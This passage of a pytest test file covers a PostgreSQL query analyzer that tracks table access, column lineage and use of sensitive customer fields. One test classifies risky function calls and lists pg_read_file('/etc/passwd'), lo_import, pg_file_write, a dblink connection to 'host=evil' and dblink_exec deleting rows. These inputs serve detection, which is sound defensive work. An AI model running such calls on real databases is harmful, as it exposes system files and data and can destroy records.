def test_schema_qualified_names_are_never_ctes() -> None:
    stmt = one("WITH customers AS (SELECT 1 AS x) SELECT * FROM public.customers")
    assert reads(stmt) == {"public.customers"}


def test_a_cte_is_not_visible_outside_its_subquery() -> None:
    stmt = one("SELECT * FROM (WITH customers AS (SELECT 1 AS x) SELECT x FROM customers) s, customers")
    assert reads(stmt) == {"public.customers"}
    assert len(stmt.outputs or ()) == 1 + len(CUSTOMERS)


def test_a_write_target_is_never_a_cte() -> None:
    stmt = one("WITH customers AS (SELECT 1) DELETE FROM customers")
    assert uses(stmt) == {("public.customers", "delete", None)}


def test_views_list_the_view_and_every_relation_it_reads() -> None:
    stmt = one("SELECT name FROM customer_names")
    assert uses(stmt) == {
        ("public.customer_names", "read", None),
        ("public.customers", "read", "public.customer_names"),
    }
    assert out(stmt) == [("name", {"customer_names.name"}, True, False)]


def test_materialized_views_list_what_they_were_built_from() -> None:
    stmt = one("SELECT n FROM customer_stats")
    assert ("public.customers", "read", "public.customer_stats") in uses(stmt)


@pytest.mark.parametrize(
    ("sql", "expected"),
    [
        (
            "SELECT 1 FROM customers c JOIN orders o ON o.customer_id = c.id",
            {"public.customers", "public.orders"},
        ),
        ("SELECT (SELECT max(amount) FROM orders)", {"public.orders"}),
        ("SELECT 1 WHERE EXISTS (SELECT 1 FROM customers)", {"public.customers"}),
        ("SELECT 1 WHERE 1 IN (SELECT id FROM customers)", {"public.customers"}),
        (
            "SELECT * FROM orders o, LATERAL (SELECT name FROM customers c WHERE c.id = o.customer_id) x",
            {"public.orders", "public.customers"},
        ),
        (
            "SELECT id FROM customers UNION SELECT id FROM archive.customers",
            {"public.customers", "archive.customers"},
        ),
        ("SELECT id FROM orders INTERSECT SELECT id FROM customers", {"public.orders", "public.customers"}),
        ("TABLE customers", {"public.customers"}),
        ("WITH x AS (SELECT * FROM customers) SELECT 1", {"public.customers"}),
        ("SELECT * FROM customers TABLESAMPLE bernoulli (1)", {"public.customers"}),
        ("SELECT ARRAY(SELECT email FROM customers)", {"public.customers"}),
        ("SELECT json_array(SELECT email FROM customers)", {"public.customers"}),
    ],
)
def test_reads_anywhere_in_a_query(sql: str, expected: set[str]) -> None:
    assert reads(one(sql)) == expected


@pytest.mark.parametrize(
    ("sql", "expected"),
    [
        ("INSERT INTO customers (id) VALUES (1)", {("public.customers", "insert", None)}),
        ("UPDATE customers SET name = 'x'", {("public.customers", "update", None)}),
        ("DELETE FROM customers", {("public.customers", "delete", None)}),
        (
            "TRUNCATE customers, orders",
            {("public.customers", "truncate", None), ("public.orders", "truncate", None)},
        ),
        (
            "DELETE FROM orders USING customers WHERE orders.customer_id = customers.id",
            {("public.orders", "delete", None), ("public.customers", "read", None)},
        ),
        (
            "UPDATE orders SET status = c.name FROM customers c WHERE c.id = orders.customer_id",
            {("public.orders", "update", None), ("public.customers", "read", None)},
        ),
        (
            "DELETE FROM orders RETURNING id",
            {("public.orders", "delete", None), ("public.orders", "read", None)},
        ),
        (
            "INSERT INTO customer_names (id) VALUES (1)",
            {
                ("public.customer_names", "insert", None),
                ("public.customers", "insert", "public.customer_names"),
            },
        ),
        ("ALTER TABLE customers ADD COLUMN x int", {("public.customers", "ddl", None)}),
        (
            "DROP TABLE customers, archive.customers",
            {("public.customers", "ddl", None), ("archive.customers", "ddl", None)},
        ),
        ("CREATE INDEX ON customers (lower(email))", {("public.customers", "ddl", None)}),
        ("COMMENT ON COLUMN customers.email IS 'pii'", {("public.customers", "ddl", None)}),
        ("GRANT SELECT ON customers TO bob", {("public.customers", "ddl", None)}),
        (
            "CREATE TRIGGER t BEFORE UPDATE ON customers FOR EACH ROW EXECUTE FUNCTION my_func()",
            {("public.customers", "ddl", None)},
        ),
        ("CREATE POLICY p ON customers USING (true)", {("public.customers", "ddl", None)}),
        ("ALTER TABLE customers RENAME TO c2", {("public.customers", "ddl", None)}),
        ("LOCK customers IN ACCESS EXCLUSIVE MODE", {("public.customers", "lock", None)}),
        (
            "LOCK customer_names",
            {("public.customer_names", "lock", None), ("public.customers", "lock", "public.customer_names")},
        ),
        ("VACUUM (ANALYZE) customers (email)", {("public.customers", "maintain", None)}),
        ("ANALYZE customers", {("public.customers", "maintain", None)}),
        ("REINDEX TABLE customers", {("public.customers", "maintain", None)}),
        ("CLUSTER customers USING customers_pkey", {("public.customers", "maintain", None)}),
        ("REFRESH MATERIALIZED VIEW customer_stats", {("public.customer_stats", "maintain", None)}),
    ],
)
def test_access_kinds(sql: str, expected: set[tuple[str, str, str | None]]) -> None:
    assert uses(one(sql)) == expected


def test_grant_on_all_tables_in_a_schema_touches_each_of_them() -> None:
    assert uses(one("GRANT SELECT ON ALL TABLES IN SCHEMA archive TO bob")) == {
        ("archive.customers", "ddl", None),
        ("archive.orders_2020", "ddl", None),
    }


def test_merge_lists_each_action_on_the_target_and_reads_the_source() -> None:
    stmt = one(
        "MERGE INTO customers c USING archive.customers a ON c.id = a.id "
        "WHEN MATCHED AND a.email IS NULL THEN DELETE "
        "WHEN MATCHED THEN UPDATE SET email = a.email "
        "WHEN NOT MATCHED THEN INSERT (id, name) VALUES (a.id, a.name)"
    )
    assert uses(stmt) == {
        ("public.customers", "delete", None),
        ("public.customers", "update", None),
        ("public.customers", "insert", None),
        ("archive.customers", "read", None),
    }
    assert cols(stmt, Clause.JOIN) == {"customers.id", "archive.customers.id"}
    assert cols(stmt, Clause.WHERE) == {"archive.customers.email"}
    assert cols(stmt, Clause.SET) >= {
        "customers.email",
        "customers.id",
        "customers.name",
        "archive.customers.name",
    }


def test_on_conflict_do_update_also_updates_and_sees_excluded() -> None:
    stmt = one(
        "INSERT INTO customers AS c (id, email) VALUES (1, 'x') "
        "ON CONFLICT (id) DO UPDATE SET email = excluded.email WHERE c.phone IS NULL"
    )
    assert uses(stmt) == {("public.customers", "insert", None), ("public.customers", "update", None)}
    assert cols(stmt, Clause.WHERE) == {"customers.phone"}
    assert "customers.email" in cols(stmt, Clause.SET)


def test_data_modifying_cte_counts_as_a_write() -> None:
    stmt = one("WITH d AS (DELETE FROM customers RETURNING *) SELECT email FROM d")
    assert uses(stmt) == {("public.customers", "delete", None), ("public.customers", "read", None)}
    assert out(stmt) == [("email", {"customers.email"}, True, False)]


# ---------------------------------------------------------------------- columns


def test_clauses_of_column_uses() -> None:
    stmt = one(
        "SELECT DISTINCT ON (c.phone) c.name, count(*) OVER (PARTITION BY c.address ORDER BY c.created_at) "
        "FROM customers c JOIN orders o ON o.customer_id = c.id "
        "WHERE c.email LIKE '%@example.com' GROUP BY c.name, c.phone, c.address, c.created_at "
        "HAVING max(c.card_number) > '4' ORDER BY c.phone LIMIT 10"
    )
    assert cols(stmt, Clause.OUTPUT) == {"customers.name"}
    assert cols(stmt, Clause.JOIN) == {"orders.customer_id", "customers.id"}
    assert cols(stmt, Clause.WHERE) == {"customers.email"}
    assert cols(stmt, Clause.GROUP) == {
        "customers.name",
        "customers.phone",
        "customers.address",
        "customers.created_at",
    }
    assert cols(stmt, Clause.HAVING) == {"customers.card_number"}
    assert cols(stmt, Clause.ORDER) == {"customers.phone"}
    assert cols(stmt, Clause.DISTINCT) == {"customers.phone"}
    assert cols(stmt, Clause.WINDOW) == {"customers.address", "customers.created_at"}


def test_join_using_and_natural_join_use_the_shared_columns() -> None:
    assert cols(one("SELECT 1 FROM customers JOIN orders USING (id)"), Clause.JOIN) == {
        "customers.id",
        "orders.id",
    }
    assert cols(one("SELECT 1 FROM customers NATURAL JOIN orders"), Clause.JOIN) == {
        "customers.id",
        "orders.id",
        "customers.created_at",
        "orders.created_at",
    }


def test_named_windows_count_as_window_uses_and_flow_into_the_value() -> None:
    stmt = one("SELECT rank() OVER w FROM customers WINDOW w AS (PARTITION BY email ORDER BY phone)")
    assert cols(stmt, Clause.WINDOW) == {"customers.email", "customers.phone"}
    assert out(stmt) == [("rank", {"customers.email", "customers.phone"}, False, False)]


def test_update_set_targets_and_returning() -> None:
    stmt = one("UPDATE customers SET phone = NULL, name = upper(email) WHERE id = 1 RETURNING card_number")
    assert cols(stmt, Clause.SET) == {"customers.phone", "customers.name", "customers.email"}
    assert cols(stmt, Clause.WHERE) == {"customers.id"}
    assert cols(stmt, Clause.RETURNING) == {"customers.card_number"}
    assert out(stmt) == [("card_number", {"customers.card_number"}, True, False)]
    assert stmt.returns_rows


def test_insert_column_list_is_a_set_use() -> None:
    stmt = one("INSERT INTO customers (id, email) VALUES (1, 'a@b')")
    assert cols(stmt, Clause.SET) == {"customers.id", "customers.email"}
    assert not stmt.writes_from_query
    assert stmt.outputs is None
    assert not stmt.returns_rows


def test_ambiguous_unqualified_columns_list_every_candidate() -> None:
    stmt = one("SELECT created_at FROM customers, orders")
    assert out(stmt) == [("created_at", {"customers.created_at", "orders.created_at"}, True, False)]


def test_qualified_by_alias_table_name_and_schema() -> None:
    stmt = one("SELECT c.email, orders.amount, public.orders.status FROM customers c, orders")
    assert out(stmt) == [
        ("email", {"customers.email"}, True, False),
        ("amount", {"orders.amount"}, True, False),
        ("status", {"orders.status"}, True, False),
    ]


def test_correlated_subquery_resolves_to_the_outer_relation() -> None:
    stmt = one(
        "SELECT id FROM customers c "
        "WHERE EXISTS (SELECT 1 FROM orders o WHERE o.customer_id = c.id AND email > '')"
    )
    assert cols(stmt, Clause.WHERE) == {"orders.customer_id", "customers.id", "customers.email"}
    assert stmt.notes == ()


def test_unknown_column_is_attributed_to_every_relation_in_scope() -> None:
    stmt = one("SELECT ssn FROM customers")
    assert out(stmt) == [("ssn", {"customers.ssn"}, True, False)]
    assert any("not in the catalog" in n for n in stmt.notes)


def test_columns_through_a_subquery_map_back_to_base_columns() -> None:
    stmt = one("SELECT x.n FROM (SELECT name AS n, lower(email) AS e FROM customers) x WHERE x.e = 'a@b'")
    assert cols(stmt, Clause.WHERE) == {"customers.email"}
    assert out(stmt) == [("n", {"customers.name"}, True, False)]


def test_columns_through_a_cte_with_column_aliases() -> None:
    stmt = one("WITH x(a, b) AS (SELECT email, phone FROM customers) SELECT b FROM x ORDER BY a")
    assert out(stmt) == [("b", {"customers.phone"}, True, False)]
    assert cols(stmt, Clause.ORDER) == {"customers.email"}


def test_order_by_position_and_output_alias() -> None:
    stmt = one("SELECT email AS e, phone FROM customers ORDER BY 2, e")
    assert cols(stmt, Clause.ORDER) == {"customers.phone", "customers.email"}


def test_group_by_position_and_grouping_sets() -> None:
    stmt = one("SELECT email, phone, count(*) FROM customers GROUP BY 1, ROLLUP (phone, address)")
    assert cols(stmt, Clause.GROUP) == {"customers.email", "customers.phone", "customers.address"}


# ---------------------------------------------------------------------- exact comparisons


def compared(stmt: StatementFacts, clause: Clause) -> dict[str, set[str]]:
    """Columns used in one clause, by how they are compared ('none', 'value', 'column')."""
    out: dict[str, set[str]] = {}
    for c in stmt.columns:
        if c.clause == clause:
            out.setdefault(c.equality.value, set()).add(_col(c.relation[0], c.relation[1], c.column))
    return out


@pytest.mark.parametrize(
    "condition",
    [
        "phone = '090-1234-5678'",
        "phone = $1",
        "'090-1234-5678' = phone",
        "(phone) = lower($1) || 'x'",
        "phone IN ('a', 'b')",
        "phone NOT IN ('a', 'b')",
        "phone <> 'a'",
        "phone != 'a'",
        "phone = ANY($1)",
        "phone = ANY('{a,b}')",
        "phone <> ALL(ARRAY['a'])",
        "phone IS NULL",
        "phone IS NOT NULL",
        "phone IS DISTINCT FROM 'a'",
        "phone IS NOT DISTINCT FROM $1",
        "phone OPERATOR(pg_catalog.=) 'a'",
        "(phone, id) = ('a', 1)",
        "(phone, id) IN (('a', 1), ('b', 2))",
        "NOT (phone = 'a')",
        "phone IN (SELECT 'a')",
        "'a' IN (SELECT phone FROM customers)",
        "(SELECT phone FROM customers WHERE id = 1) = 'a'",
    ],
)
def test_exact_value_lookups_are_marked(condition: str) -> None:
    stmt = one(f"SELECT id FROM customers WHERE {condition}")
    assert compared(stmt, Clause.WHERE)["value"] >= {"customers.phone"}
    assert "customers.phone" not in compared(stmt, Clause.WHERE).get("none", set())


@pytest.mark.parametrize(
    "condition",
    [
        "phone LIKE '090%'",
        "phone NOT LIKE '090%'",
        "phone ILIKE '090%'",
        "phone SIMILAR TO '090%'",
        "phone ~ '^090'",
        "phone > '0'",
        "phone <= $1",
        "phone BETWEEN '0' AND '1'",
        "left(phone, 3) = '090'",
        "substring(phone from 1 for 3) = '090'",
        "phone::varchar(3) = '090'",
        "phone::text = 'a'",
        "phone COLLATE \"C\" = 'a'",
        "phone || '' = 'a'",
        "(customers.*)::text = 'a'",
        "phone OPERATOR(public.=) 'a'",
        "phone = 'a' || substring(phone from 2)",
        "'a' < ANY (SELECT phone FROM customers)",
        "(SELECT upper(phone) FROM customers LIMIT 1) = 'A'",
        "CASE phone WHEN 'a' THEN true END",
    ],
)
def test_patterns_ranges_casts_and_functions_are_not_exact(condition: str) -> None:
    stmt = one(f"SELECT id FROM customers WHERE {condition}")
    assert "customers.phone" in compared(stmt, Clause.WHERE)["none"]


def test_columns_compared_with_columns_are_join_conditions() -> None:
    stmt = one(
        "SELECT 1 FROM customers c JOIN orders o ON o.customer_id = c.id AND c.phone LIKE o.status "
        "JOIN archive.customers a USING (email) "
        "WHERE c.name = a.name AND o.status IN (SELECT phone FROM customers) AND c.address = $1"
    )
    assert compared(stmt, Clause.JOIN) == {
        "column": {"orders.customer_id", "customers.id", "customers.email", "archive.customers.email"},
        "none": {"customers.phone", "orders.status"},
    }
    assert compared(stmt, Clause.WHERE) == {
        "column": {"customers.name", "archive.customers.name", "orders.status", "customers.phone"},
        "value": {"customers.address"},
    }


def test_exact_lookups_through_subqueries_ctes_and_set_operations() -> None:
    stmt = one(
        "WITH c AS (SELECT id, email, upper(phone) AS p FROM customers) "
        "SELECT * FROM (SELECT phone FROM customers UNION ALL SELECT name FROM archive.customers) u, c "
        "WHERE u.phone = 'a' AND c.email = $1 AND c.p = 'B'"
    )
    assert compared(stmt, Clause.WHERE) == {
        "value": {"customers.phone", "archive.customers.name", "customers.email"},
        "none": {"customers.phone"},  # c.p is upper(phone): not the value itself
    }


def test_duplicate_removal_uses_every_result_column() -> None:
    assert cols(one("SELECT DISTINCT name, id FROM customers"), Clause.DISTINCT) == {
        "customers.name",
        "customers.id",
    }
    assert cols(one("SELECT name FROM customers UNION SELECT status FROM orders"), Clause.DISTINCT) == {
        "customers.name",
        "orders.status",
    }
    for op in ("INTERSECT", "EXCEPT"):
        stmt = one(f"SELECT email FROM customers {op} SELECT 'a'")
        assert cols(stmt, Clause.DISTINCT) == {"customers.email"}, op
    assert (
        cols(one("SELECT name FROM customers UNION ALL SELECT status FROM orders"), Clause.DISTINCT) == set()
    )
    assert cols(one("SELECT count(DISTINCT phone) FROM customers"), Clause.DISTINCT) == set()


def test_expressions_that_decide_how_many_rows_return_are_limit_uses() -> None:
    stmt = one("SELECT id FROM customers LIMIT (SELECT length(phone) FROM customers WHERE id = 1)")
    assert cols(stmt, Clause.LIMIT) == {"customers.phone"}
    assert compared(stmt, Clause.WHERE) == {"value": {"customers.id"}}
    stmt = one("SELECT generate_series(1, ascii(phone)), unnest(ARRAY[name]) FROM customers")
    assert cols(stmt, Clause.LIMIT) == {"customers.phone"}
    stmt = one("SELECT * FROM customers c, regexp_split_to_table(c.address, ' ') AS part")
    assert cols(stmt, Clause.LIMIT) == {"customers.address"}
    stmt = one("SELECT * FROM orders TABLESAMPLE BERNOULLI ((SELECT length(email) FROM customers LIMIT 1))")
    assert cols(stmt, Clause.LIMIT) == {"customers.email"}
    assert cols(one("SELECT unnest(array_agg(email)) FROM customers"), Clause.LIMIT) == set()
    assert cols(one("SELECT * FROM upper((SELECT email FROM customers LIMIT 1))"), Clause.LIMIT) == set()


def test_predicates_in_the_select_list_are_outputs() -> None:
    stmt = one(
        "SELECT CASE WHEN phone LIKE '090%' THEN 1 END, count(*) FILTER (WHERE email > '') FROM customers"
    )
    assert cols(stmt, Clause.OUTPUT) == {"customers.phone"}
    assert cols(stmt, Clause.WHERE) == {"customers.email"}  # FILTER chooses the rows aggregated


def test_select_star_expands_against_the_catalog() -> None:
    stmt = one("SELECT * FROM customers")
    assert [o.name for o in stmt.outputs or ()] == list(CUSTOMERS)
    assert all(o.direct and len(o.sources) == 1 for o in stmt.outputs or ())
    assert cols(stmt, Clause.OUTPUT) == PII


def test_qualified_star_and_star_over_a_join_with_using() -> None:
    stmt = one("SELECT o.*, 1 AS one FROM customers c JOIN orders o ON true")
    assert [o.name for o in stmt.outputs or ()] == [*ORDERS, "one"]
    joined = one("SELECT * FROM customers JOIN orders USING (id)")
    names = [o.name for o in joined.outputs or ()]
    assert names == ["id", *CUSTOMERS[1:], *[c for c in ORDERS if c != "id"]]  # USING column once, first
    assert (joined.outputs or ())[0].sources == {("public", "customers", "id"), ("public", "orders", "id")}


def test_star_over_a_join_alias() -> None:
    stmt = one("SELECT j.* FROM (customers c JOIN orders o ON true) AS j")
    assert len(stmt.outputs or ()) == len(CUSTOMERS) + len(ORDERS)


# ---------------------------------------------------------------------- whole rows


@pytest.mark.parametrize(
    "expression",
    [
        "c",
        "row_to_json(c)",
        "to_jsonb(c)",
        "c::text",
        "(c.*)::text",
        "json_agg(c)",
        "ROW(c.*)",
        "hstore(c)",
        "array_agg(c)",
        "c.*::text",
    ],
)
def test_whole_row_references_use_every_column(expression: str) -> None:
    stmt = one(f"SELECT {expression} FROM customers c")
    [(_, sources, direct, whole_row)] = out(stmt)
    assert sources == PII
    assert whole_row
    assert not direct
    assert cols(stmt, Clause.OUTPUT) == PII


def test_whole_row_by_table_name_and_in_predicates() -> None:
    assert out(one("SELECT (customers.*)::text FROM customers"))[0][1:] == (PII, False, True)
    stmt = one("SELECT 1 FROM customers c WHERE c IS NOT NULL AND row_to_json(c)::text LIKE '%4111%'")
    assert cols(stmt, Clause.WHERE) == PII


def test_whole_row_by_bare_table_name() -> None:
    assert out(one("SELECT customers FROM customers"))[0][1:] == (PII, False, True)
    assert out(one("SELECT to_json(customers) FROM customers *"))[0][1:] == (PII, False, True)


def test_system_columns_are_columns_of_every_table() -> None:
    stmt = one("SELECT ctid, xmin FROM customers")
    assert out(stmt) == [("ctid", {"customers.ctid"}, True, False), ("xmin", {"customers.xmin"}, True, False)]
    assert stmt.notes == ()


def test_a_column_named_like_the_alias_is_a_column_not_a_row() -> None:
    stmt = one("SELECT email FROM customers email")
    assert out(stmt) == [("email", {"customers.email"}, True, False)]


def test_field_selection_from_a_row_is_that_column() -> None:
    stmt = one("SELECT (c).email FROM customers c")
    assert out(stmt) == [("email", {"customers.email"}, True, False)]


def test_whole_row_through_a_subquery_and_a_scalar_subquery() -> None:
    assert out(one("SELECT to_json(s) FROM (SELECT email, phone FROM customers) s"))[0][1:] == (
        {"customers.email", "customers.phone"},
        False,
        True,
    )
    assert out(one("SELECT (SELECT c FROM customers c LIMIT 1)"))[0][1:] == (PII, False, True)


# ---------------------------------------------------------------------- lineage


@pytest.mark.parametrize(
    ("sql", "sources", "direct"),
    [
        ("SELECT email AS e FROM customers", {"customers.email"}, True),
        ("SELECT x.e FROM (SELECT email AS e FROM customers) x", {"customers.email"}, True),
        ("WITH x AS (SELECT email FROM customers) SELECT email FROM x", {"customers.email"}, True),
        (
            "SELECT email FROM customers UNION ALL SELECT email FROM archive.customers",
            {"customers.email", "archive.customers.email"},
            True,
        ),
        ("SELECT email FROM customers UNION SELECT 'nobody'", {"customers.email"}, False),
        ("SELECT email::text FROM customers", {"customers.email"}, False),
        ("SELECT CAST(email AS varchar(3)) FROM customers", {"customers.email"}, False),
        ("SELECT lower(email) FROM customers", {"customers.email"}, False),
        ("SELECT name || ' ' || phone FROM customers", {"customers.name", "customers.phone"}, False),
        ("SELECT max(card_number) FROM customers", {"customers.card_number"}, False),
        (
            "SELECT string_agg(name, ',' ORDER BY phone) FROM customers",
            {"customers.name", "customers.phone"},
            False,
        ),
        (
            "SELECT lag(email) OVER (ORDER BY created_at) FROM customers",
            {"customers.email", "customers.created_at"},
            False,
        ),
        ("SELECT CASE WHEN phone LIKE '090%' THEN 1 ELSE 0 END FROM customers", {"customers.phone"}, False),
        (
            "SELECT 1/(CASE WHEN phone LIKE '090%' THEN 0 ELSE 1 END) FROM customers",
            {"customers.phone"},
            False,
        ),
        ("SELECT COALESCE(email, phone) FROM customers", {"customers.email", "customers.phone"}, False),
        ("SELECT greatest(name, address) FROM customers", {"customers.name", "customers.address"}, False),
        ("SELECT NULLIF(email, '') FROM customers", {"customers.email"}, False),
        ('SELECT email COLLATE "C" FROM customers', {"customers.email"}, False),
        ("SELECT ARRAY[email, phone] FROM customers", {"customers.email", "customers.phone"}, False),
        ("SELECT (SELECT email FROM customers LIMIT 1)", {"customers.email"}, False),
        (
            "SELECT EXISTS (SELECT 1 FROM customers WHERE card_number LIKE '4%')",
            {"customers.card_number"},
            False,
        ),
        (
            "SELECT id IN (SELECT customer_id FROM orders) FROM customers",
            {"customers.id", "orders.customer_id"},
            False,
        ),
        ("SELECT substr(card_number, 1, 4) FROM customers", {"customers.card_number"}, False),
        ("SELECT json_build_object('e', email) FROM customers", {"customers.email"}, False),
        ("SELECT json_object('e': email) FROM customers", {"customers.email"}, False),
        ("SELECT xmlelement(name e, email) FROM customers", {"customers.email"}, False),
        ("SELECT count(*) FROM customers", set(), False),
        ("SELECT 1 FROM customers", set(), False),
        ("VALUES ('a'), ('b')", set(), False),
    ],
)
def test_output_lineage(sql: str, sources: set[str], direct: bool) -> None:
    [(_, found, is_direct, _)] = out(one(sql))
    assert (found, is_direct) == (sources, direct)


def test_recursive_cte_lineage_reaches_a_fixpoint() -> None:
    stmt = one(
        "WITH RECURSIVE t(id, e) AS (SELECT id, email FROM customers "
        "UNION ALL SELECT t.id + 1, t.e FROM t WHERE t.id < 10) SELECT e, id FROM t"
    )
    assert out(stmt) == [
        ("e", {"customers.email"}, True, False),
        ("id", {"customers.id"}, False, False),
    ]


def test_set_operations_merge_lineage_position_by_position() -> None:
    stmt = one("SELECT name, email FROM customers EXCEPT SELECT status, NULL FROM orders")
    assert out(stmt) == [
        ("name", {"customers.name", "orders.status"}, True, False),
        ("email", {"customers.email"}, False, False),
    ]


def test_values_in_from_with_column_aliases() -> None:
    stmt = one("SELECT v.b FROM (VALUES (1, (SELECT email FROM customers LIMIT 1))) v(a, b)")
    assert out(stmt) == [("b", {"customers.email"}, False, False)]


def test_lateral_function_and_subquery_lineage() -> None:
    stmt = one("SELECT u.part FROM customers c, LATERAL unnest(string_to_array(c.address, ' ')) AS u(part)")
    assert out(stmt) == [("part", {"customers.address"}, False, False)]


def test_result_of_a_record_function_without_column_list_is_unknown() -> None:
    stmt = one("SELECT * FROM my_func()")
    assert stmt.outputs is None
    assert stmt.notes


def test_result_of_a_polymorphic_record_function_is_unknown() -> None:
    stmt = one(
        "SELECT * FROM json_populate_record(NULL::customers, (SELECT row_to_json(c) FROM customers c))"
    )
    assert stmt.outputs is None
    assert reads(stmt) == {"public.customers"}


def test_result_of_a_record_function_with_column_list_is_known() -> None:
    stmt = one("SELECT * FROM json_to_record('{}') AS r(a int, b text)")
    assert [o.name for o in stmt.outputs or ()] == ["a", "b"]
    stmt = one("SELECT * FROM json_each('{}') WITH ORDINALITY")
    assert [o.name for o in stmt.outputs or ()] == ["key", "value", "ordinality"]


def test_generate_series_column_is_named_by_its_alias() -> None:
    stmt = one("SELECT * FROM generate_series(1, 3) AS g, customers WHERE g = id")
    assert [o.name for o in stmt.outputs or ()][:2] == ["g", "id"]
    assert cols(stmt, Clause.WHERE) == {"customers.id"}


# ---------------------------------------------------------------------- functions


@pytest.mark.parametrize(
    ("sql", "functions"),
    [
        ("SELECT lower('A')", ("pg_catalog.lower",)),
        ("SELECT pg_catalog.upper('a')", ("pg_catalog.upper",)),
        ("SELECT my_func()", ("public.my_func",)),
        ("SELECT nosuch_func()", ("unknown.nosuch_func",)),
        ("SELECT archive.f()", ("archive.f",)),
        ("SELECT md5('x')", ("pg_catalog.md5", "public.md5")),
        ("SELECT * FROM generate_series(1, 2)", ("pg_catalog.generate_series",)),
        ("CALL my_func()", ("public.my_func",)),
    ],
)
def test_function_resolution(sql: str, functions: tuple[str, ...]) -> None:
    assert one(sql).functions == functions


def test_explicit_search_path_order_is_respected_for_functions() -> None:
    assert one("SELECT md5('x')", ("public", "pg_catalog")).functions == ("public.md5", "pg_catalog.md5")


@pytest.mark.parametrize(
    ("call", "klass"),
    [
        ("pg_read_file('/etc/passwd')", FunctionClass.SERVER_FILES),
        ("pg_read_binary_file('/etc/passwd')", FunctionClass.SERVER_FILES),
        ("pg_ls_dir('.')", FunctionClass.SERVER_FILES),
        ("pg_stat_file('x')", FunctionClass.SERVER_FILES),
        ("pg_ls_waldir()", FunctionClass.SERVER_FILES),
        ("pg_current_logfile()", FunctionClass.SERVER_FILES),
        ("lo_import('/etc/passwd')", FunctionClass.SERVER_FILES),
        ("lo_export(1, '/tmp/x')", FunctionClass.SERVER_FILES),
        ("pg_file_write('x', 'y', false)", FunctionClass.SERVER_FILES),
        ("lo_get(1)", FunctionClass.LARGE_OBJECTS),
        ("lo_put(1, 0, 'x')", FunctionClass.LARGE_OBJECTS),
        ("lo_open(1, 262144)", FunctionClass.LARGE_OBJECTS),
        ("loread(0, 10)", FunctionClass.LARGE_OBJECTS),
        ("lo_from_bytea(0, 'x')", FunctionClass.LARGE_OBJECTS),
        ("lo_unlink(1)", FunctionClass.LARGE_OBJECTS),
        ("query_to_xml('SELECT 1', true, true, '')", FunctionClass.DYNAMIC_SQL),
        ("cursor_to_xml('c', 10, true, true, '')", FunctionClass.DYNAMIC_SQL),
        ("schema_to_xml('archive', true, true, '')", FunctionClass.DYNAMIC_SQL),
        ("database_to_xml(true, true, '')", FunctionClass.DYNAMIC_SQL),
        ("dblink('dbname=x', 'SELECT 1')", FunctionClass.DYNAMIC_SQL),
        ("dblink_exec('DELETE FROM orders')", FunctionClass.DYNAMIC_SQL),
        ("dblink('SELECT 1')", FunctionClass.REMOTE),
        ("dblink_connect('c', 'host=evil')", FunctionClass.REMOTE),
        ("postgres_fdw_disconnect_all()", FunctionClass.REMOTE),
        ("set_config('work_mem', '1GB', false)", FunctionClass.SESSION),
        ("pg_terminate_backend(1)", FunctionClass.ADMIN),
        ("pg_cancel_backend(1)", FunctionClass.ADMIN),
        ("pg_reload_conf()", FunctionClass.ADMIN),
        ("pg_rotate_logfile()", FunctionClass.ADMIN),
        ("pg_promote()", FunctionClass.ADMIN),
        ("pg_switch_wal()", FunctionClass.ADMIN),
        ("pg_create_restore_point('x')", FunctionClass.ADMIN),
        ("pg_backup_start('x')", FunctionClass.ADMIN),
        ("pg_log_backend_memory_contexts(1)", FunctionClass.ADMIN),
        ("pg_logical_slot_get_changes('s', NULL, NULL)", FunctionClass.ADMIN),
        ("my_func()", FunctionClass.USER_DEFINED),
        ("nosuch_func()", FunctionClass.USER_DEFINED),
    ],
)
def test_function_classes(call: str, klass: FunctionClass) -> None:
    assert klass in one(f"SELECT {call}").function_classes


@pytest.mark.parametrize(
    "call",
    [
        "lower('x')",
        "xpath('/a', '<a/>')",
        "count(*)",
        "now()",
        "'customers'::regclass",
        "current_setting('x')",
    ],
)
def test_ordinary_builtins_have_no_class(call: str) -> None:
    stmt = one(f"SELECT {call}")
    assert stmt.function_classes == frozenset()
    assert stmt.tables == ()  # a regclass literal only names a table


def test_functions_in_from_are_resolved_and_classified() -> None:
    stmt = one("SELECT * FROM pg_ls_dir('.') AS f, dblink('dbname=x', 'SELECT 1') AS t(a int)")
    assert {
        FunctionClass.SERVER_FILES,
        FunctionClass.DYNAMIC_SQL,
        FunctionClass.REMOTE,
    } <= stmt.function_classes
    assert [o.name for o in stmt.outputs or ()] == ["f", "a"]


def test_table_to_xml_is_a_read_of_the_named_table() -> None:
    stmt = one("SELECT table_to_xml('public.customers', true, false, '')")
    assert reads(stmt) == {"public.customers"}
    assert FunctionClass.DYNAMIC_SQL in stmt.function_classes
    assert out(stmt)[0][1:] == (PII, False, True)
    quoted = one("""SELECT table_to_xml('"archive".Customers', true, false, '')""")
    assert reads(quoted) == {"archive.customers"}


def test_query_to_xml_folds_in_the_query_it_runs() -> None:
    stmt = one("SELECT query_to_xml('SELECT card_number FROM customers', true, false, '')")
    assert reads(stmt) == {"public.customers"}
    assert cols(stmt, Clause.OUTPUT) == {"customers.card_number"}
    assert out(stmt)[0][1] == {"customers.card_number"}


def test_query_to_xml_of_a_computed_query_is_dynamic_with_a_note() -> None:
    stmt = one("SELECT query_to_xml('SELECT ' || 'email FROM customers', true, false, '')")
    assert FunctionClass.DYNAMIC_SQL in stmt.function_classes
    assert stmt.tables == ()
    assert any("not a constant" in n for n in stmt.notes)


def test_dblink_sql_argument_is_folded_in() -> None:
    stmt = one("SELECT * FROM dblink('dbname=sekisho', 'SELECT email FROM customers') AS t(e text)")
    assert reads(stmt) == {"public.customers"}
    assert {
        FunctionClass.DYNAMIC_SQL,
        FunctionClass.REMOTE,
        FunctionClass.USER_DEFINED,
    } <= stmt.function_classes


def test_schema_to_xml_reads_every_table_of_the_schema() -> None:
    assert reads(one("SELECT schema_to_xml('archive', true, false, '')")) == {
        "archive.customers",
        "archive.orders_2020",
    }


def test_user_defined_operator_is_a_user_function() -> None:
    stmt = one("SELECT 1 OPERATOR(public.===) 2")
    assert stmt.functions == ("public.===",)
    assert FunctionClass.USER_DEFINED in stmt.function_classes


# ---------------------------------------------------------------------- COPY


@pytest.mark.parametrize(
    ("sql", "copy", "returns_rows", "access"),
    [
        (
            "COPY customers TO STDOUT",
            CopyFacts("to", CopyTarget.STDOUT, ("public", "customers")),
            True,
            "read",
        ),
        (
            "COPY customers (email) TO '/tmp/x'",
            CopyFacts("to", CopyTarget.FILE, ("public", "customers"), ("email",)),
            False,
            "read",
        ),
        (
